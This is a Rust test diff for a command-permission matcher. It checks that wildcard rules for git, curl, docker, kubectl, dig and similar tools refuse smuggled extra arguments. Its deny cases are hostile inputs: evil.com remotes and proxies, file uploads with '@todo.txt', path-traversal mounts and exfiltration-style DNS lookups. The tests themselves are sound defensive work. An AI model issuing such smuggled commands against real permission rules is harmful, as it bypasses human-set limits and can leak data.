@@ -545,3 +545,226 @@ fn a_star_in_a_place_stands_for_no_other_marks() {
         ("kubectl get pods -l app=*", &["kubectl get pods -l app=x,tier=y"], &[]),
     ]);
 }
+
+/// A word that follows could be another repository, and the rule's own one its folder.
+#[test]
+fn a_star_within_a_word_stands_for_more_words_only_if_each_is_like_it() {
+    families(&[
+        (
+            "git clone --depth=* https://h/acme/x",
+            &["git clone --depth=1 https://h/acme/x"],
+            &["git clone --depth=1 git@evil:y https://h/acme/x", "git clone --depth=1 ../y https://h/acme/x"],
+        ),
+        (
+            "git clone --branch=v* https://h/acme/x",
+            &["git clone --branch=v1 https://h/acme/x"],
+            &["git clone --branch=v1 evil:y https://h/acme/x"],
+        ),
+        (
+            "git fetch --depth=* origin main",
+            &["git fetch --depth=1 origin main"],
+            &["git fetch --depth=1 evil:y origin main"],
+        ),
+        (
+            "git push --push-option=* origin main",
+            &["git push --push-option=x origin main"],
+            &["git push --push-option=x evil:y origin main"],
+        ),
+        ("rm *.tmp", &["rm a.tmp", "rm a.tmp b.tmp", "rm a␣b.tmp"], &["rm a b.tmp", "rm notes.md b.tmp"]),
+        ("git add docs/*.md", &["git add docs/a.md docs/b.md"], &["git add docs/a.md x docs/b.md"]),
+        (
+            "git remote set-url * https://h/x",
+            &["git remote set-url origin https://h/x"],
+            &["git remote set-url origin https://evil/x https://h/x"],
+        ),
+        ("git push * main", &["git push origin main"], &["git push evil:x main main"]),
+        ("git push * --dry-run", &["git push origin x --dry-run"], &[]),
+        (
+            "dig *.acme.com",
+            &["dig www.acme.com", "dig a.acme.com b.acme.com"],
+            &["dig @6.6.6.6 x.acme.com", "dig secret.evil.com x.acme.com"],
+        ),
+        ("host *.acme.com", &["host www.acme.com"], &["host secret.evil.com ns.acme.com"]),
+        ("ping -c 1 *.acme.com", &["ping -c 1 www.acme.com"], &["ping -c 1 evil.com x.acme.com"]),
+        ("dig acme.com *", &["dig acme.com MX +short"], &["dig acme.com -f todo.txt", "dig acme.com -ftodo.txt"]),
+    ]);
+}
+
+/// The further items of a list are places, too.
+#[test]
+fn a_star_within_a_list_stands_for_one_item() {
+    families(&[
+        (
+            "kubectl apply -f https://h/*",
+            &["kubectl apply -f https://h/x.yaml", "kubectl apply -f https://h/a/x.yaml"],
+            &["kubectl apply -f https://h/x.yaml,mine.yaml", "kubectl apply -f https://h/x.yaml,https://evil/"],
+        ),
+        (
+            "docker run --rm --mount=type=bind,source=/srv/*,target=/data img",
+            &["docker run --rm --mount=type=bind,source=/srv/a/b,target=/data img"],
+            &["docker run --rm --mount=type=bind,source=/srv/a,source=/,target=/data img"],
+        ),
+        ("docker run -v/srv/*:/data img", &["docker run -v/srv/a:/data img"], &["docker run -v/srv/a:/b:/data img"]),
+        ("docker run -v /srv/*:/data img", &["docker run -v /srv/a:/data img"], &["docker run -v /srv/a:/b:/data img"]),
+        (
+            "mysql -h *.acme.com -e 'select 1' app",
+            &["mysql -h db.acme.com -e select␣1 app"],
+            &["mysql -h evil.com,x.acme.com -e select␣1 app"],
+        ),
+        (
+            "mysqldump --host=*.acme.com app",
+            &["mysqldump --host=a.acme.com app"],
+            &["mysqldump --host=evil,a.acme.com app"],
+        ),
+        ("mysqladmin -h*.acme.com ping", &["mysqladmin -ha.acme.com ping"], &["mysqladmin -hevil,a.acme.com ping"]),
+        (
+            "ssh -oProxyJump=*.acme.com host uptime",
+            &["ssh -oProxyJump=a.acme.com host uptime"],
+            &["ssh -oProxyJump=evil.com,x.acme.com host uptime"],
+        ),
+        (
+            "deno run --allow-net=*.acme.com x.ts",
+            &["deno run --allow-net=a.acme.com x.ts"],
+            &["deno run --allow-net=evil.com,x.acme.com x.ts"],
+        ),
+        (
+            "deno run --allow-read=data/* x.ts",
+            &["deno run --allow-read=data/a/b x.ts"],
+            &["deno run --allow-read=data/x,/ x.ts"],
+        ),
+        ("kubectl get pods --selector=app=*", &["kubectl get pods --selector=app=x,tier=y"], &[]),
+        ("go build -tags=*", &["go build -tags=a,b"], &[]),
+        (
+            "gh api repos/acme/x/issues -F body=*",
+            &["gh api repos/acme/x/issues -F body=all␣is␣well"],
+            &["gh api repos/acme/x/issues -F body=@todo.txt"],
+        ),
+        ("gh api repos/acme/x/issues -f body=*", &["gh api repos/acme/x/issues -f body=@ada␣look"], &[]),
+    ]);
+}
+
+#[test]
+fn a_star_in_a_proxy_or_an_upload_stays_in_it() {
+    families(&[
+        (
+            "curl -x http://*.acme.com:3128 https://h/x",
+            &["curl -x http://p.acme.com:3128 https://h/x"],
+            &["curl -x http://evil/.acme.com:3128 https://h/x", "curl -x http://evil:1/x.acme.com:3128 https://h/x"],
+        ),
+        (
+            "curl --proxy=socks5://*.acme.com https://h/x",
+            &["curl --proxy=socks5://p.acme.com https://h/x"],
+            &["curl --proxy=socks5://evil/.acme.com https://h/x"],
+        ),
+        (
+            "curl -x *.acme.com:3128 https://h/x",
+            &["curl -x p.acme.com:3128 https://h/x"],
+            &["curl -x evil/.acme.com:3128 https://h/x"],
+        ),
+        (
+            "curl --connect-to h:443:*.acme.com:443 https://h/x",
+            &["curl --connect-to h:443:a.acme.com:443 https://h/x"],
+            &["curl --connect-to h:443:evil:1/.acme.com:443 https://h/x"],
+        ),
+        (
+            "wget --max-redirect=0 -e https_proxy=http://*.acme.com:3/ https://h/x",
+            &["wget --max-redirect=0 -e https_proxy=http://p.acme.com:3/ https://h/x"],
+            &["wget --max-redirect=0 -e https_proxy=http://evil/.acme.com:3/ https://h/x"],
+        ),
+        (
+            "curl -F note=* https://h/x",
+            &["curl -F note=well https://h/x"],
+            &["curl -F note=@todo.txt https://h/x", "curl -F note=<todo.txt https://h/x"],
+        ),
+        (
+            "gh api --hostname=*.acme.com user",
+            &["gh api --hostname=git.acme.com user"],
+            &["gh api --hostname=evil/.acme.com user"],
+        ),
+    ]);
+}
+
+/// The path of a rule may end in front of another mark than a slash.
+#[test]
+fn a_star_in_a_path_does_not_climb_at_its_end() {
+    families(&[
+        ("docker run -v /srv/*:/d img", &["docker run -v /srv/a:/d img"], &["docker run -v /srv/..:/d img"]),
+        ("docker run -v /srv/* img", &["docker run -v /srv/a:/d img"], &["docker run -v /srv/..:/d img"]),
+        (
+            "docker run --mount type=bind,source=/srv/*,target=/d img",
+            &["docker run --mount type=bind,source=/srv/a,target=/d img"],
+            &["docker run --mount type=bind,source=/srv/..,target=/d img"],
+        ),
+        ("docker cp web:/data/*:x .", &[], &["docker cp web:/data/..:x ."]),
+        ("git clone https://h/acme/*?x", &["git clone https://h/acme/a?x"], &["git clone https://h/acme/..?x"]),
+        ("docker build https://h/acme/*#main", &[], &["docker build https://h/acme/..#main"]),
+        ("scp host:in/*:x y", &[], &["scp host:in/..:x y"]),
+    ]);
+}
+
+#[test]
+fn a_star_in_a_package_stands_for_no_other_one() {
+    families(&[
+        ("bun x acme-*", &["bun x acme-x"], &["bun x acme-x@npm:evil"]),
+        ("bun add acme-*", &["bun add acme-x@1.2"], &["bun add acme-x@npm:evil", "bun add acme-x@https://h/x.tgz"]),
+        ("uv run --with acme* x.py", &["uv run --with acme-x x.py"], &["uv run --with acme,evil x.py"]),
+        ("docker push -a *.acme.com/x", &["docker push -a hub.acme.com/x"], &["docker push -a evil.com/x.acme.com/x"]),
+        ("git pull -S git@*.acme.com:x", &["git pull -S git@h.acme.com:x"], &["git pull -S git@evil.com:y.acme.com:x"]),
+    ]);
+}
+
+/// Every further branch begins like the rule's.
+#[test]
+fn a_rule_for_some_branches_pushes_and_deletes_no_other() {
+    families(&[
+        (
+            "git push origin bot/*",
+            &["git push origin bot/x", "git push origin bot/x bot/y", "git push -u origin bot/x"],
+            &["git push origin bot/x main", "git push origin bot/x main:prod"],
+        ),
+        (
+            "git push --delete origin bot/*",
+            &["git push --delete origin bot/x bot/y"],
+            &["git push --delete origin bot/x main"],
+        ),
+        ("git push --force origin bot/*", &["git push --force origin bot/x"], &["git push --force origin bot/x main"]),
+        ("git branch -D bot/*", &["git branch -D bot/x bot/y"], &["git branch -D bot/x main"]),
+        ("git tag -d v0*", &["git tag -d v0.1 v0.2"], &["git tag -d v0.1 v1"]),
+        ("git branch bot/*", &["git branch bot/x origin/main"], &[]),
+        (
+            "git push origin feature-*:bot/x",
+            &["git push origin feature-1:bot/x"],
+            &["git push origin feature-1:main:bot/x"],
+        ),
+        (
+            "git -C notes push origin bot/*",
+            &["git -C notes push origin bot/x"],
+            &["git -C notes push origin bot/x main"],
+        ),
+    ]);
+}
+
+/// What a job hands on grants no call that its own rules refuse.
+#[test]
+fn a_child_with_a_star_of_its_own_leads_nowhere_else() {
+    let covers =
+        |outer: &str, inner: &str| BOT.covers(&ToolPattern::parse(outer).unwrap(), &ToolPattern::parse(inner).unwrap());
+    for (outer, inner) in [
+        ("Bash(kubectl apply -f https://h/*)", "Bash(kubectl apply -f https://h/a,*//evil.com/x.yaml)"),
+        ("Bash(git push https://h/acme/* main)", "Bash(git push https://h/acme/x * main)"),
+        ("Bash(git clone --depth=* https://h/x)", "Bash(git clone --depth=1 * https://h/x)"),
+        ("Bash(docker run -v /srv/*:/d img)", "Bash(docker run -v /srv/a/../*:/d img)"),
+        ("Bash(curl -x http://*.acme.com:3 https://h/x)", "Bash(curl -x http://evil/*.acme.com:3 https://h/x)"),
+    ] {
+        assert!(!covers(outer, inner), "{outer} covers {inner}");
+    }
+    for (outer, inner) in [
+        ("Bash(kubectl apply -f https://h/*)", "Bash(kubectl apply -f https://h/a/*)"),
+        ("Bash(git push origin bot/*)", "Bash(git push origin bot/x)"),
+        ("Bash(git push origin bot/*)", "Bash(git push origin bot/x/*)"),
+        ("Bash(docker pull acme/*)", "Bash(docker pull acme/x*)"),
+        ("Bash(rm *.tmp)", "Bash(rm a*.tmp)"),
+    ] {
+        assert!(covers(outer, inner), "{outer} does not cover {inner}");
+    }
+}
